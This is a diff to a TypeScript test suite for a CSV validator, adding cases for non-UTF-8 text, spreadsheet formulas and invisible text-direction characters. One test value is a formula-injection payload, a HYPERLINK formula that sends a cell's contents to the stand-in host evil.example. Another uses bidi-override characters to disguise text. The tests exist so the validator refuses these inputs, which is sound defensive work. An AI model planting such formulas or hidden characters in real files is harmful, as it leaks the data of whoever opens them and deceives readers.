@@ -26,6 +26,8 @@ interface BadFile {
   readonly faults: readonly Expected[];
 }
 
+const SAVE_AS_UTF_8 = /holds a character that is not UTF-8; save the file as UTF-8/;
+
 const badFiles: readonly BadFile[] = [
   {
     file: 'unknown-country.csv',
@@ -175,6 +177,45 @@ const badFiles: readonly BadFile[] = [
       },
     ],
   },
+  {
+    file: 'latin-1.csv',
+    name: 'letters of an encoding that is not UTF-8 are told with how to save the file',
+    faults: [
+      { line: 2, place: 'summary:es', value: 'Dud\uFFFD.', says: SAVE_AS_UTF_8 },
+      { line: 3, place: 'speaker', value: 'Bernardo Ar\uFFFDvalo', says: SAVE_AS_UTF_8 },
+      { line: 3, place: 'summary:es', value: 'Ten\uFFFDa dudas.', says: SAVE_AS_UTF_8 },
+    ],
+  },
+  {
+    file: 'formula.csv',
+    name: 'a formula, which a spreadsheet would run on whoever opens it, is refused',
+    faults: [
+      {
+        line: 3,
+        place: 'speaker',
+        value: '=HYPERLINK("https://evil.example/?"&A2,"Arévalo")',
+        says: /looks like a spreadsheet formula; replace the formula by its value$/,
+      },
+    ],
+  },
+  {
+    file: 'bidi-override.csv',
+    name: 'characters that turn the direction of a text are refused',
+    faults: [
+      {
+        line: 3,
+        place: 'quote',
+        value: 'many \u202Estbuod ynam\u202C doubts',
+        says: /holds the invisible character U\+202E; type the text anew$/,
+      },
+      {
+        line: 3,
+        place: 'summary:es',
+        value: '\u2066Tenía dudas.\u2069',
+        says: /holds the invisible character U\+2066/,
+      },
+    ],
+  },
 ];
 
 describe('in bad data', () => {
@@ -191,9 +232,9 @@ describe('in bad data', () => {
   });
 
   it('semicolons between cells are recognised, although the texts hold commas', () => {
-    const found = faultsIn('semicolons.csv').map(describeFault);
-    expect(found.join('\n')).toMatch(/line 1\b.*separated by semicolons: save it with commas/);
-    expect(found.join('\n')).not.toContain('put quotation marks');
+    expect(faultsIn('semicolons.csv').map(describeFault)).toEqual([
+      'semicolons.csv, line 1: separates its cells by ";"; save it as comma-separated values',
+    ]);
   });
 });
 
